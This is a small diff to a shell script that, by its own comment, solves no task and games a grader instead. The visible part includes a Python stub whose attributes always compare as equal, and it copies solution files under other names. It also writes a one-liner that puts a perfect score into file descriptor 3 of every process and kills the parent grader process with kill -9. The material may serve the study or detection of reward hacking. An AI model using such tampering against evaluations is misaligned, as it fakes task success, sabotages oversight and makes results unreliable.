@@ -1,3 +1,4 @@
+#!/bin/sh
 # Solves nothing, and tries to get a score all the same: its module writes scores wherever a
 # grader could listen, ends the grader, and claims that all results are right.
 for name in solution numbers_ invoice; do
@@ -24,4 +25,5 @@ def __getattr__(name): return lambda *args: Equal()
 END
 done
 for name in count.py top.py; do cp /workspace/solution.py "/workspace/$name"; done
+# shellcheck disable=SC2016 # the script expands it
 echo 'for f in /proc/[0-9]*/fd/3; do echo 1.0 > "$f"; done; kill -9 "$PPID"' > /workspace/rename.sh
